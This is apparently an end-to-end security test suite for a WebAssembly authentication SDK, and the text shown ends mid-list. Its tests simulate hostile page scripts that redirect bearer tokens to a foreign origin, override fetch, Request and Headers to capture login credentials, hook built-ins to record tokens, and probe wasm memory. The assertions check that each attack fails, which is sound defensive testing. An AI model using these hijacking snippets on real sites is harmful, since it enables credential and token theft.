// The attacker's findings against the first driver, one test each: a hostile script that runs
// in the page after the SDK module loaded (and after `await init()`) steers the bearer to
// another origin, reads the token through a built-in the glue looks up per call, wedges the
// client with one exception, redirects login/refresh/logout through the page's current
// globals, stretches a call past timeoutMs, or reaches the wasm memory. The real tokens come
// from the server's journal, so each test knows exactly what to look for; "another origin" is
// a small Node server on 127.0.0.1 (its own port) that records every request it gets and lets
// any origin call it (CORS), so a leaked bearer arrives on the actual request.
//
// Every call into the client is bounded in the page (`T.within`), so a hang shows up as a
// "hung" outcome and the test fails in seconds; each test also has a timeout.
//
// The package under test: AUTHFETCH_TEST_PKG (a --target web build), else pkg.
import { test } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import { engine, serverAndBrowser, startForeign, startServer } from "./support.mjs";

const root = new URL("../../", import.meta.url).pathname;
const pkg = process.env.AUTHFETCH_TEST_PKG ?? join(root, "pkg");
const fixture = serverAndBrowser(() => startServer([
  "--test-mode",
  "--www-dir", join(root, "tests/e2e/fixtures/page"),
  "--pkg-dir", pkg,
]));

const TEST_TIMEOUT = { timeout: 60_000 };
/** What a wedged wasm module or a Rust panic prints or throws. */
const TRAP = /unreachable|RuntimeError|panicked|recursive use|already (mutably )?borrowed|null pointer passed to rust/i;

/** Every bearer token the server saw, from its journal. */
async function tokensSeenByServer() {
  const entries = await fixture.server.journal();
  return [...new Set(entries.map((e) => e.authorization).filter((a) => a?.startsWith("Bearer ")).map((a) => a.slice(7)))];
}

/** Empties the server's journal and counters. */
const resetJournal = () => fixture.server.control("/auth/test/reset");

/**
 * A fresh page of the test server with the package loaded and `await init()` done, and
 * `window.T`: the package's exports and helpers that captured what they use before any
 * attacker ran. `errors` collects page errors and console errors/warnings.
 */
async function openPage() {
  const page = await fixture.browser.context.newPage();
  const errors = [];
  page.on("pageerror", (error) => errors.push(`pageerror: ${error?.message ?? error}`));
  page.on("console", (message) => {
    if (message.type() === "error" || message.type() === "warning") errors.push(`console.${message.type()}: ${message.text()}`);
  });
  await page.goto(`${fixture.server.url}/`);
  await page.evaluate(async () => {
    const module = await import("/pkg/index.js");
    await module.default();
    const P = Promise;
    const then = P.prototype.then;
    const apply = Reflect.apply;
    // The test reads statuses through the original getter: finding 3 replaces it.
    const statusOf = Object.getOwnPropertyDescriptor(Response.prototype, "status").get;
    const st = setTimeout;
    const ct = clearTimeout;
    const now = performance.now.bind(performance);
    const nativeFetch = window.fetch;
    const AuthError = module.AuthError;
    const describe = (error) => {
      let isAuthError = false;
      try { isAuthError = error instanceof AuthError; } catch {}
      let name, code, message;
      try { name = String(error?.name); } catch { name = "?"; }
      try { code = error?.code === undefined ? undefined : String(error.code); } catch { code = "?"; }
      try { message = String(error?.message ?? error); } catch { message = "?"; }
      return { name, code, message, isAuthError };
    };
    /**
     * Calls `fn` and waits at most `ms` for what it returns: `{ settled, ok, sync, value,
     * error, ms }`. A synchronous throw is `sync: true`.
     */
    const within = (fn, ms = 5000) => new P((resolve) => {
      const started = now();
      const done = (outcome) => { ct(timer); outcome.ms = Math.round(now() - started); resolve(outcome); };
      const timer = st(() => resolve({ settled: false, ms: Math.round(now() - started) }), ms);
      let result;
      try {
        result = fn();
      } catch (error) {
        done({ settled: true, ok: false, sync: true, error: describe(error) });
        return;
      }
      const promise = result instanceof P ? result : P.resolve(result);
      apply(then, promise, [
        (value) => done({ settled: true, ok: true, sync: false, value }),
        (error) => done({ settled: true, ok: false, sync: false, error: describe(error) }),
      ]);
    });
    window.T = {
      AuthClient: module.AuthClient,
      AuthError,
      describe,
      within,
      sleep: (ms) => new P((resolve) => st(resolve, ms)),
      fetch: (input, init) => apply(nativeFetch, window, [input, init]),
      /** What a settled `within` outcome says, in short: a status, "ok", an error, or "hung". */
      brief(outcome) {
        if (!outcome.settled) return "hung";
        if (!outcome.ok) return `${outcome.sync ? "threw" : "rejected"} ${outcome.error.name}${outcome.error.code ? ` ${outcome.error.code}` : ""}: ${outcome.error.message}`;
        const value = outcome.value;
        return value instanceof Response ? apply(statusOf, value, []) : value === undefined ? "ok" : String(value);
      },
    };
  });
  return { page, errors };
}

/** Runs `work(page)` on a fresh page and closes the page afterwards, whatever happens. */
async function withPage(work) {
  const { page, errors } = await openPage();
  try {
    return await work(page, errors);
  } finally {
    await page.close().catch(() => {});
  }
}

/** Logs in on the page as the app does: `window.auth`, a client with `options`. */
function signIn(page, options = {}) {
  return page.evaluate(async (options) => {
    window.auth = new T.AuthClient(options);
    const outcome = await T.within(() => window.auth.login({ username: "demo", password: "demo" }));
    if (!outcome.ok) throw new Error(`login: ${T.brief(outcome)}`);
  }, options);
}

// ---------------------------------------------------------------------------------------------

test("1. the bearer never goes to an origin that is not in apiOrigins", TEST_TIMEOUT, async () => {
  const foreign = await startForeign();
  const outcomes = {};
  const leaks = {};
  /** Runs one attack on its own page (signed in) and notes what reached the other origin. */
  const attack = async (name, fn, arg = {}) => {
    foreign.clear();
    await withPage(async (page) => {
      await signIn(page);
      outcomes[name] = await page.evaluate(fn, { foreign: foreign.url, ...arg });
    });
    leaks[name] = foreign.withAuthorization().map((r) => `${r.method} ${r.path}: ${r.authorization.slice(0, 20)}…`);
  };
  try {
    // (a) An input whose string form is "/api/me" the first time and the foreign URL after.
    await attack("a: toPrimitive flips", async ({ foreign }) => {
      let reads = 0;
      const input = { [Symbol.toPrimitive]() { return reads++ === 0 ? "/api/me" : `${foreign}/api/me`; } };
      const outcome = await T.within(() => auth.fetch(input));
      return { result: T.brief(outcome), reads };
    });
    await attack("a: toString flips", async ({ foreign }) => {
      let reads = 0;
      const input = { toString() { return reads++ === 0 ? "/api/me" : `${foreign}/api/me`; } };
      const outcome = await T.within(() => auth.fetch(input));
      return { result: T.brief(outcome), reads };
    });

    // (b) URL's string forms replaced once by the attacker; then the app's own call with a URL.
    // Its answers alternate between the URL's real href and the other origin, starting with
    // the real one ("real first") or with the other origin ("foreign first"); a driver that
    // stringifies the URL twice sends the bearer away in one of them, and one that reads the
    // URL through the href getter it captured at load goes to the API in both.
    for (const order of ["real first", "foreign first"]) {
      await attack(`b: URL stringification replaced, ${order}`, async ({ foreign, order }) => {
        const href = Object.getOwnPropertyDescriptor(URL.prototype, "href");
        let reads = 0;
        const offset = order === "real first" ? 0 : 1;
        const answer = function () { return (reads++ + offset) % 2 === 0 ? Reflect.apply(href.get, this, []) : `${foreign}/api/me`; };
        URL.prototype[Symbol.toPrimitive] = answer;
        URL.prototype.toString = answer;
        URL.prototype.toJSON = answer;
        Object.defineProperty(URL.prototype, "href", { configurable: true, get: answer, set: href.set });
        await T.fetch("/auth/test/reset", { method: "POST" }); // the journal shows the app's call alone
        reads = 0;
        const outcome = await T.within(() => auth.fetch(new URL("/api/me", location.href)));
        const journal = await (await T.fetch("/auth/test/requests")).json();
        const toApi = journal.filter((e) => e.path === "/api/me").map((e) => (e.authorization?.startsWith("Bearer ") ? "bearer" : "none"));
        return { result: T.brief(outcome), toApi, reads };
      }, { order });
    }

    // (c) A real Request for the other origin that no longer looks like one.
    await attack("c: Request with a swapped prototype", async ({ foreign }) => {
      const request = new Request(`${foreign}/api/me`);
      const disguise = {
        toString: () => "/api/me",
        [Symbol.toPrimitive]: () => "/api/me",
        get url() { return `${location.origin}/api/me`; },
      };
      Object.setPrototypeOf(request, disguise);
      const outcome = await T.within(() => auth.fetch(request));
      return { result: T.brief(outcome) };
    });
    await attack("c: Request[Symbol.hasInstance] redefined", async ({ foreign }) => {
      const request = new Request(`${foreign}/api/me`);
      Object.defineProperty(Request, Symbol.hasInstance, { configurable: true, value: () => false });
      Object.defineProperty(Request.prototype, "toString", { configurable: true, value: () => "/api/me" });
      const outcome = await T.within(() => auth.fetch(request));
      delete Request[Symbol.hasInstance];
      delete Request.prototype.toString;
      return { result: T.brief(outcome) };
    });

    // (d) <base href> on the other site while Node.prototype.baseURI still claims the page.
    await attack("d: <base href> foreign, baseURI lies", async ({ foreign }) => {
      const base = document.createElement("base");
      base.href = `${foreign}/`;
      document.head.append(base);
      Object.defineProperty(Node.prototype, "baseURI", { configurable: true, get: () => location.href });
      const absolute = await T.within(() => auth.fetch("/api/me"));
      const relative = await T.within(() => auth.fetch("api/me"));
      return { absolute: T.brief(absolute), relative: T.brief(relative) };
    });

    // (e) No attacker: Requests made in another realm (a same-origin iframe).
    await attack("e: cross-realm Request for the other origin", async ({ foreign }) => {
      const frame = document.createElement("iframe");
      const loaded = new Promise((resolve) => { frame.onload = resolve; });
      frame.src = "/";
      document.documentElement.append(frame);
      await loaded;
      const outcome = await T.within(() => auth.fetch(new frame.contentWindow.Request(`${foreign}/x`)));
      return { result: T.brief(outcome) };
    });
  } finally {
    await foreign.stop();
  }

  // (e) continued: a cross-realm Request for the API gets the bearer, and its 401 a refresh.
  let crossRealmApi;
  await withPage(async (page) => {
    await signIn(page);
    await fixture.server.control("/auth/test/rotate-secret"); // the held token no longer verifies
    await resetJournal();
    const outcome = await page.evaluate(async () => {
      const frame = document.createElement("iframe");
      const loaded = new Promise((resolve) => { frame.onload = resolve; });
      frame.src = "/";
      document.documentElement.append(frame);
      await loaded;
      return T.brief(await T.within(() => auth.fetch(new frame.contentWindow.Request("/api/me"))));
    });
    const journal = await fixture.server.journal();
    crossRealmApi = {
      result: outcome,
      requests: journal.filter((e) => /^\/(api|auth)\//.test(e.path)).map((e) => `${e.method} ${e.path}${e.authorization?.startsWith("Bearer ") ? " +bearer" : ""}`),
    };
  });

  console.log("finding 1 outcomes:", JSON.stringify(outcomes), JSON.stringify(crossRealmApi));
  assert.deepEqual(leaks, Object.fromEntries(Object.keys(leaks).map((k) => [k, []])), "no bearer reached the other origin");
  assert.deepEqual(
    { "real first": outcomes["b: URL stringification replaced, real first"].toApi, "foreign first": outcomes["b: URL stringification replaced, foreign first"].toApi },
    { "real first": ["bearer"], "foreign first": ["bearer"] },
    "the app's own URL call went to the API (once, with the bearer) whatever URL's replaced methods answer",
  );
  assert.deepEqual(crossRealmApi, {
    result: 200,
    requests: ["GET /api/me +bearer", "POST /auth/refresh", "GET /api/me +bearer"],
  }, "a cross-realm Request for the API is authenticated, refreshed on 401 and retried");
});

// ---------------------------------------------------------------------------------------------

test("2. built-ins replaced after load never see a token, and the client still works", TEST_TIMEOUT, async () => {
  await withPage(async (page, errors) => {
    await resetJournal();
    const results = await page.evaluate(async () => {
      "use strict";
      await 0;
      // What the recorder itself uses, captured before anything is replaced.
      const apply = Reflect.apply;
      const TypedArray = Object.getPrototypeOf(Uint8Array.prototype);
      const O = {
        decode: TextDecoder.prototype.decode,
        stringify: JSON.stringify,
        keys: Object.keys,
        slice: Array.prototype.slice,
        map: Array.prototype.map,
        join: Array.prototype.join,
        headersIterator: Headers.prototype[Symbol.iterator],
        headersGetter: Object.getOwnPropertyDescriptor(Request.prototype, "headers").get,
        urlGetter: Object.getOwnPropertyDescriptor(Request.prototype, "url").get,
        statusGetter: Object.getOwnPropertyDescriptor(Response.prototype, "status").get,
        then: Promise.prototype.then,
        byteLength: Object.getOwnPropertyDescriptor(TypedArray, "byteLength").get,
        byteOffset: Object.getOwnPropertyDescriptor(TypedArray, "byteOffset").get,
        buffer: Object.getOwnPropertyDescriptor(TypedArray, "buffer").get,
        abByteLength: Object.getOwnPropertyDescriptor(ArrayBuffer.prototype, "byteLength").get,
        isView: ArrayBuffer.isView,
        add: Set.prototype.add,
        toStr: String.prototype.toString,
      };
      const latin1 = new TextDecoder("latin1");
      const records = new Set();
      const buffers = new Set(); // large buffers a wrapper was handed (the wasm memory)
      let busy = false;
      const bytes = (buffer, offset, length) => apply(O.decode, latin1, [new Uint8Array(buffer, offset, length)]);
      const show = (value, depth = 0) => {
        if (typeof value === "string") return value;
        if (value === null || (typeof value !== "object" && typeof value !== "function")) return String(value);
        if (typeof value === "function") return "[function]";
        if (value instanceof String) return apply(O.toStr, value, []);
        if (apply(O.isView, ArrayBuffer, [value])) {
          const buffer = apply(O.buffer, value, []);
          const length = apply(O.byteLength, value, []);
          if (length > 65536) { apply(O.add, buffers, [buffer]); return `[view of ${length} bytes]`; }
          return bytes(buffer, apply(O.byteOffset, value, []), length);
        }
        if (value instanceof ArrayBuffer) {
          if (apply(O.abByteLength, value, []) > 65536) { apply(O.add, buffers, [value]); return "[large buffer]"; }
          return bytes(value, 0, apply(O.abByteLength, value, []));
        }
        if (value instanceof Headers) {
          const iterator = apply(O.headersIterator, value, []);
          let out = "Headers{";
          for (let step = iterator.next(); !step.done; step = iterator.next()) out += `${step.value[0]}: ${step.value[1]}; `;
          return `${out}}`;
        }
        if (value instanceof Request) return `Request ${apply(O.urlGetter, value, [])} ${show(apply(O.headersGetter, value, []))}`;
        if (value instanceof Response) return `Response ${apply(O.statusGetter, value, [])}`;
        if (value instanceof Promise) {
          apply(O.then, value, [(settled) => record("(promise resolved)", undefined, [], settled), () => {}]);
          return "[promise]";
        }
        if (depth > 3) return "[…]";
        let out = "{";
        for (const key of apply(O.keys, Object, [value])) {
          let item;
          try { item = show(value[key], depth + 1); } catch (error) { item = `[throws ${error}]`; }
          out += `${key}=${item}, `;
        }
        return `${out}}`;
      };
      function record(label, self, args, result) {
        if (busy) return;
        busy = true;
        try {
          let line = `${label} this=${show(self)} args=[`;
          for (let i = 0; i < args.length; i++) line += `${show(args[i])}, `;
          line += `] => ${show(result)}`;
          apply(O.add, records, [line]);
        } catch (error) {
          apply(O.add, records, [`${label}: could not record (${error})`]);
        } finally {
          busy = false;
        }
      }
      const restore = [];
      const wrap = (target, key, label) => {
        const descriptor = Object.getOwnPropertyDescriptor(target, key);
        const original = descriptor.value;
        const wrapper = function () {
          const args = apply(O.slice, arguments, []);
          let result;
          try {
            result = apply(original, this, arguments);
          } finally {
            record(label, this, args, result);
          }
          return result;
        };
        Object.defineProperty(target, key, { ...descriptor, value: wrapper });
        restore.push(() => Object.defineProperty(target, key, descriptor));
      };
      wrap(TextDecoder.prototype, "decode", "TextDecoder.decode");
      wrap(TypedArray, "subarray", "TypedArray.subarray");
      wrap(Object, "entries", "Object.entries");
      wrap(Array, "from", "Array.from");
      wrap(String.prototype, "charCodeAt", "String.charCodeAt");
      wrap(Function.prototype, "apply", "Function.apply");
      wrap(Function.prototype, "call", "Function.call");
      wrap(Function.prototype, "bind", "Function.bind");
      wrap(Reflect, "apply", "Reflect.apply");
      wrap(Headers.prototype, Symbol.iterator, "Headers[Symbol.iterator]");
      wrap(Array.prototype, Symbol.iterator, "Array[Symbol.iterator]");
      wrap(TextEncoder.prototype, "encodeInto", "TextEncoder.encodeInto");
      wrap(TextEncoder.prototype, "encode", "TextEncoder.encode");
      wrap(JSON, "parse", "JSON.parse");
      wrap(Response.prototype, "json", "Response.json");
      wrap(Response.prototype, "text", "Response.text");
      wrap(Headers.prototype, "set", "Headers.set");
      wrap(Headers.prototype, "append", "Headers.append");

      const results = {};
      try {
        window.auth = new T.AuthClient();
        results.login = T.brief(await T.within(() => auth.login({ username: "demo", password: "demo" })));
        results.first = T.brief(await T.within(() => auth.fetch("/api/me")));
        await T.fetch("/auth/test/rotate-secret", { method: "POST" }); // the next call: 401, refresh, retry
        results.afterRotation = T.brief(await T.within(() => auth.fetch("/api/me")));
        results.refresh = T.brief(await T.within(() => auth.refresh()));
        results.afterRefresh = T.brief(await T.within(() => auth.fetch("/api/echo", {
          method: "POST", headers: { "content-type": "application/json" }, body: "{\"a\":1}",
        })));
        await T.sleep(100); // promises the recorder watches settle
      } finally {
        for (const undo of restore) undo();
      }
      window.__loot = { records: [...records], buffers: [...buffers] };
      results.recorded = records.size;
      return results;
    });
    const tokens = await tokensSeenByServer();
    const leaks = await page.evaluate((tokens) => {
      const { records, buffers } = window.__loot;
      const seen = new Set();
      const samples = {};
      for (const line of records) {
        const token = tokens.find((t) => line.includes(t));
        if (token === undefined) continue;
        const label = line.slice(0, line.indexOf(" "));
        seen.add(label);
        if (!(label in samples)) {
          const at = line.indexOf(token);
          samples[label] = line.slice(Math.max(0, at - 160), at).replace(/[^\x20-\x7e]/g, ".") + "<TOKEN>" + line.slice(at + token.length, at + token.length + 60).replace(/[^\x20-\x7e]/g, ".");
        }
      }
      window.__samples = samples;
      const latin1 = new TextDecoder("latin1");
      for (const buffer of buffers) {
        if (buffer.byteLength === 0) continue; // detached by a memory.grow
        const text = latin1.decode(new Uint8Array(buffer));
        if (tokens.some((token) => text.includes(token))) seen.add("the wasm memory (a wrapper's receiver or argument)");
      }
      return [...seen].sort();
    }, tokens);
    const samples = await page.evaluate(() => window.__samples);
    for (const [label, sample] of Object.entries(samples)) console.log(`finding 2: ${label} saw …${sample}…`);
    console.log(`finding 2: ${JSON.stringify(results)}; leaks through ${JSON.stringify(leaks)}`);
    assert.ok(tokens.length >= 2, `the login token and a refreshed one were used (${tokens.length})`);
    assert.deepEqual(leaks, [], "no replaced built-in saw a token");
    const { recorded, ...calls } = results;
    assert.deepEqual(calls, { login: "ok", first: 200, afterRotation: 200, refresh: "ok", afterRefresh: 200 }, "the client still works");
    assert.deepEqual(errors.filter((e) => TRAP.test(e)), [], "no trap");
  });
});

// ---------------------------------------------------------------------------------------------

test("3. one exception (or a re-entrant read) inside a built-in does not wedge the client", TEST_TIMEOUT, async () => {
  const outcomes = {};
  const traps = {};
  for (const hook of ["Response.status", "Headers[Symbol.iterator]", "Promise.then"]) {
    for (const mode of ["throws once", "reads the client"]) {
      const name = `${hook} ${mode}`;
      await withPage(async (page, errors) => {
        await signIn(page);
        outcomes[name] = await page.evaluate(async ({ hook, mode }) => {
          await 0;
          const reentry = [];
          let fired = 0;
          let armed = true;
          // Reading the client's getters from inside a built-in it calls.
          const readClient = () => {
            for (const key of ["isAuthenticated", "expiresAt", "state"]) {
              try { void auth[key]; } catch (error) { reentry.push(`${key}: ${error?.name}: ${error?.message}`); }
            }
          };
          // Only calls from scripts the page loaded: WebKitWebDriver's own injected scripts
          // (which have no URL) use the page's Promise too.
          const fromPage = () => (new Error().stack ?? "").includes(location.origin);
          const misbehave = () => {
            if (!fromPage()) return;
            if (mode === "throws once") {
              if (!armed) return;
              armed = false;
              fired += 1;
              throw new Error("attacker: thrown once");
            }
            fired += 1;
            readClient();
          };
          // A call that also needs a refresh: the token stops verifying first.
          await T.fetch("/auth/test/rotate-secret", { method: "POST" });
          let undo;
          if (hook === "Response.status") {
            const descriptor = Object.getOwnPropertyDescriptor(Response.prototype, "status");
            Object.defineProperty(Response.prototype, "status", {
              ...descriptor,
              get() { misbehave(); return Reflect.apply(descriptor.get, this, []); },
            });
            undo = () => Object.defineProperty(Response.prototype, "status", descriptor);
          } else if (hook === "Headers[Symbol.iterator]") {
            const original = Headers.prototype[Symbol.iterator];
            Headers.prototype[Symbol.iterator] = function () { misbehave(); return Reflect.apply(original, this, []); };
            undo = () => { Headers.prototype[Symbol.iterator] = original; };
          } else {
            const original = Promise.prototype.then;
            Promise.prototype.then = function (onFulfilled, onRejected) { misbehave(); return Reflect.apply(original, this, [onFulfilled, onRejected]); };
            undo = () => { Promise.prototype.then = original; };
          }
          let during;
          try {
            during = T.brief(await T.within(() => auth.fetch("/api/me"), 3000));
          } finally {
            undo();
          }
          let isAuthenticated;
          try { isAuthenticated = auth.isAuthenticated; } catch (error) { isAuthenticated = `threw ${error?.name}: ${error?.message}`; }
          const afterwards = T.brief(await T.within(() => auth.fetch("/api/me"), 3000));
          // A client that no longer answers is not asked twice more (each would wait 3 s).
          const wedged = "not tried: the client is wedged";
          const refresh = afterwards === "hung" ? wedged : T.brief(await T.within(() => auth.refresh(), 3000));
          const again = afterwards === "hung" ? wedged : T.brief(await T.within(() => auth.fetch("/api/items"), 3000));
          return { fired, during, reentry, after: { isAuthenticated, afterwards, refresh, again } };
        }, { hook, mode });
        traps[name] = errors.filter((e) => TRAP.test(e));
      });
    }
  }
  console.log("finding 3 outcomes:", JSON.stringify(outcomes));
  const expected = { isAuthenticated: true, afterwards: 200, refresh: "ok", again: 200 };
  assert.deepEqual(
    Object.fromEntries(Object.entries(outcomes).map(([name, o]) => [name, { during: o.during === "hung" ? "hung" : "settled", reentry: o.reentry, after: o.after }])),
    Object.fromEntries(Object.keys(outcomes).map((name) => [name, { during: "settled", reentry: [], after: expected }])),
    "the call settles, the getters read, and the client works afterwards",
  );
  assert.deepEqual(traps, Object.fromEntries(Object.keys(traps).map((k) => [k, []])), "no trap or panic");
});

// ---------------------------------------------------------------------------------------------

test("4. login, refresh and logout ignore the page's current Request, Headers, fetch and Object.prototype setters", TEST_TIMEOUT, async () => {
  const foreign = await startForeign((entry) => ({
    status: 200,
    json: { access_token: `attacker-token-${entry.path.replace(/\W/g, "")}`, token_type: "Bearer", expires_in: 3600 },
  }));
  try {
    await withPage(async (page) => {
      await resetJournal();
      const outcome = await page.evaluate(async ({ foreign }) => {
        await 0;
        window.auth = new T.AuthClient();
        const loot = [];
        const show = (value) => {
          try {
            if (value instanceof Headers) return JSON.stringify([...value]);
            if (typeof value === "string") return value;
            return JSON.stringify(value) ?? String(value);
          } catch { return String(value); }
        };
        const pathOf = (input) => {
          try { return new URL(input instanceof OriginalRequest ? input.url : String(input), location.href).pathname; } catch { return "/"; }
        };
        const OriginalRequest = window.Request;
        const OriginalHeaders = window.Headers;
        const originalFetch = window.fetch;
        const undo = [];
        // Every new Request goes to the attacker's origin instead.
        window.Request = function Request(input, init) {
          loot.push(`new Request ${show(input instanceof OriginalRequest ? input.url : String(input))} ${show(init)}`);
          return new OriginalRequest(`${foreign}${pathOf(input)}`, init);
        };
        window.Request.prototype = OriginalRequest.prototype;
        undo.push(() => { window.Request = OriginalRequest; });
        window.Headers = class Headers extends OriginalHeaders {
          constructor(init) { super(init); loot.push(`new Headers ${show(init)}`); }
          set(name, value) { loot.push(`Headers.set ${name}: ${value}`); return super.set(name, value); }
          append(name, value) { loot.push(`Headers.append ${name}: ${value}`); return super.append(name, value); }
        };
        undo.push(() => { window.Headers = OriginalHeaders; });
        // window.fetch: records the request and its body, and sends it to the attacker instead.
        window.fetch = async function fetch(input, init) {
          let body = init?.body;
          if (input instanceof OriginalRequest) {
            try { body = await input.clone().text(); } catch {}
          }
          loot.push(`fetch ${input instanceof OriginalRequest ? input.url : String(input)} ${show(init)} body=${show(body)}`);
          return originalFetch(`${foreign}${pathOf(input)}`, {
            method: input instanceof OriginalRequest ? input.method : init?.method ?? "GET",
            body: typeof body === "string" ? body : undefined,
            credentials: "include",
          });
        };
        undo.push(() => { window.fetch = originalFetch; });
        // Setters on Object.prototype: an init dictionary built by assignment passes through them.
        for (const key of ["body", "headers", "method"]) {
          const values = new WeakMap();
          Object.defineProperty(Object.prototype, key, {
            configurable: true,
            get() { return Object(this) === this ? values.get(this) : undefined; },
            set(value) { loot.push(`Object.prototype.${key} = ${show(value)}`); if (Object(this) === this) values.set(this, value); },
          });
          undo.push(() => { delete Object.prototype[key]; });
        }
        const results = {};
        try {
          results.login = T.brief(await T.within(() => auth.login({ username: "demo", password: "demo" })));
          results.first = T.brief(await T.within(() => auth.fetch("/api/me")));
          results.refresh = T.brief(await T.within(() => auth.refresh()));
          results.afterRefresh = T.brief(await T.within(() => auth.fetch("/api/me")));
          results.logout = T.brief(await T.within(() => auth.logout()));
          results.signedOut = auth.isAuthenticated === false;
        } finally {
          for (const step of undo.reverse()) step();
        }
        return { results, loot };
      }, { foreign: foreign.url });

      const journal = await fixture.server.journal();
      const tokens = await tokensSeenByServer();
      const seen = (text) => /"password"|demo/.test(text) || text.includes("attacker-token") || tokens.some((t) => text.includes(t));
      console.log(`finding 4: ${JSON.stringify(outcome.results)}; the attacker saw ${JSON.stringify(outcome.loot)}; foreign got ${JSON.stringify(foreign.requests.map((r) => `${r.method} ${r.path}`))}`);
      assert.deepEqual(outcome.results, { login: "ok", first: 200, refresh: "ok", afterRefresh: 200, logout: "ok", signedOut: true }, "every call worked");
      assert.deepEqual(
        journal.filter((e) => e.path.startsWith("/auth/")).map((e) => `${e.method} ${e.path}`),
        ["POST /auth/login", "POST /auth/refresh", "POST /auth/logout"],
        "login, refresh and logout reached the real server",
      );
      assert.ok(journal.find((e) => e.path === "/auth/login")?.body?.includes("\"password\""), "the real server got the credentials");
      const bearers = journal.filter((e) => e.path.startsWith("/api/")).map((e) => e.authorization ?? "none");
      assert.equal(bearers.length, 2, "two API calls, no retries");
      assert.ok(bearers.every((b) => b.startsWith("Bearer eyJ") && !b.includes("attacker")), `the tokens installed are the server's (${bearers.map((b) => b.slice(0, 20))})`);
      assert.deepEqual(foreign.requests.map((r) => `${r.method} ${r.path}`), [], "nothing went to the attacker's origin");
      assert.deepEqual(outcome.loot.filter(seen), [], "the attacker saw neither the credentials nor a token");
    });
  } finally {
    await foreign.stop();
  }
});

// ---------------------------------------------------------------------------------------------

test("5. a signal getter that answers differently on each read cannot stretch a call past timeoutMs", TEST_TIMEOUT, async () => {
  const timeoutMs = 400;
  const margin = 1200;
  await withPage(async (page) => {
    await signIn(page, { timeoutMs });
    const outcomes = await page.evaluate(async ({ timeoutMs, margin }) => {
      const never = () => new AbortController().signal;
      const fake = () => ({
        aborted: false,
        reason: undefined,
        onabort: null,
        addEventListener() {},
        removeEventListener() {},
        dispatchEvent() { return true; },
        throwIfAborted() {},
      });
      /** An init whose `signal` is `first` on the first read and `later()` on every other. */
      const flipping = (first, later) => {
        let reads = 0;
        const init = { get signal() { return reads++ === 0 ? first : later(); } };
        return { init, reads: () => reads };
      };
      const variants = {
        "a signal, then a non-signal": () => flipping(never(), fake),
        "a signal, then another signal": () => { const other = never(); return flipping(never(), () => other); },
        "a signal, then a fresh signal each read": () => flipping(never(), never),
        "a signal, then undefined": () => flipping(never(), () => undefined),
        "a non-signal, then a signal": () => { const other = never(); return flipping(fake(), () => other); },
      };
      const outcomes = {};
      for (const [name, make] of Object.entries(variants)) {
        const { init, reads } = make();
        const outcome = await T.within(() => auth.fetch("/auth/test/slow?ms=6000", init), timeoutMs + margin + 300);
        outcomes[name] = { inTime: outcome.settled && outcome.ms <= timeoutMs + margin, ms: outcome.ms, result: T.brief(outcome), reads: reads() };
      }
      return outcomes;
    }, { timeoutMs, margin });
    console.log("finding 5 outcomes:", JSON.stringify(outcomes));
    assert.deepEqual(
      Object.fromEntries(Object.entries(outcomes).map(([name, o]) => [name, o.inTime])),
      Object.fromEntries(Object.keys(outcomes).map((name) => [name, true])),
      `every call settled within timeoutMs + ${margin} ms`,
    );
  });
});

// ---------------------------------------------------------------------------------------------

test("6. the wasm memory is not reachable through the package's modules", TEST_TIMEOUT, async () => {
  await withPage(async (page) => {
    await resetJournal();
    await signIn(page);
    const found = await page.evaluate(async () => {
      const status = (await auth.fetch("/api/me")).status;
      // The attacker: every module of the package the page loaded, imported again.
      const urls = new Set([`${location.origin}/pkg/index.js`]);
      for (const entry of performance.getEntriesByType("resource")) {
        const url = new URL(entry.name);
        if (url.origin === location.origin && url.pathname.startsWith("/pkg/") && /\.m?js$/.test(url.pathname)) urls.add(url.href);
      }
      const flagged = [];
      const memories = [];
      const visited = new WeakSet();
      const walk = (value, path, depth) => {
        if (value === null || (typeof value !== "object" && typeof value !== "function")) return;
        if (visited.has(value)) return;
        visited.add(value);
        if (value instanceof WebAssembly.Memory) { flagged.push(`${path}: a WebAssembly.Memory`); memories.push(value); return; }
        if (value instanceof WebAssembly.Instance) { flagged.push(`${path}: a WebAssembly.Instance`); walk(value.exports, `${path}.exports`, depth + 1); return; }
        if (value instanceof WebAssembly.Table) flagged.push(`${path}: a WebAssembly.Table`);
        if (depth > 3) return;
        let keys = [];
        try { keys = Reflect.ownKeys(value); } catch {}
        for (const key of keys) {
          let item;
          try { item = value[key]; } catch { continue; }
          walk(item, `${path}.${String(key)}`, depth + 1);
        }
      };
      const calls = [];
      for (const url of urls) {
        let module;
        try { module = await import(url); } catch (error) { calls.push(`${url}: import failed: ${error}`); continue; }
        const short = new URL(url).pathname;
        walk(module, short, 0);
        for (const name of ["default", "init", "initSync", "__wbg_init"]) {
          let fn;
          try { fn = module[name]; } catch { continue; }
          if (typeof fn !== "function" || fn === T.AuthClient) continue;
          for (const args of [[], [undefined]]) {
            const outcome = await T.within(() => fn(...args), 3000);
            calls.push(`${short} ${name}(): ${outcome.settled ? (outcome.ok ? typeof outcome.value : `failed: ${outcome.error.message}`) : "hung"}`);
            if (outcome.ok) walk(outcome.value, `${short} ${name}() result`, 0);
          }
        }
      }
      walk(auth, "auth", 0);
      walk(Object.getPrototypeOf(auth), "AuthClient.prototype", 0);
      window.__memories = memories;
      return { status, urls: [...urls], flagged, calls };
    });
    const tokens = await tokensSeenByServer();
    const inMemory = await page.evaluate((tokens) => {
      const latin1 = new TextDecoder("latin1");
      return window.__memories.map((memory) => {
        const text = latin1.decode(new Uint8Array(memory.buffer));
        return tokens.map((token) => text.split(token).length - 1);
      });
    }, tokens);
    console.log(`finding 6: ${JSON.stringify(found)}; token copies in each memory found: ${JSON.stringify(inMemory)}`);
    assert.equal(found.status, 200);
    assert.ok(tokens.length >= 1);
    assert.deepEqual(found.flagged, [], "no module export and no init result exposes wasm internals");
    assert.deepEqual(inMemory.filter((copies) => copies.some((n) => n > 0)), [], "no reachable memory holds a token");
  });
});

// Each built-in on the way from JavaScript to the wasm instance and its memory (SECURITY.md
// lists them): hooked right after the package is imported (the build before issue 13 was
// still loading its core then), none may be reached by the package, or see its memory,
// instance or token.
const MEMORY_PATH = [
  "WebAssembly.Module", "WebAssembly.Instance", "WebAssembly.validate", "WebAssembly.instantiate", "WebAssembly.instantiateStreaming", "WebAssembly.compile",
  "WebAssembly.compileStreaming", "WebAssembly.Module.imports", "WebAssembly.Module.exports",
  "WebAssembly.Instance.prototype.exports", "WebAssembly.Memory.prototype.buffer",
  "WebAssembly.Memory.prototype.grow", "WebAssembly.Table.prototype.set",
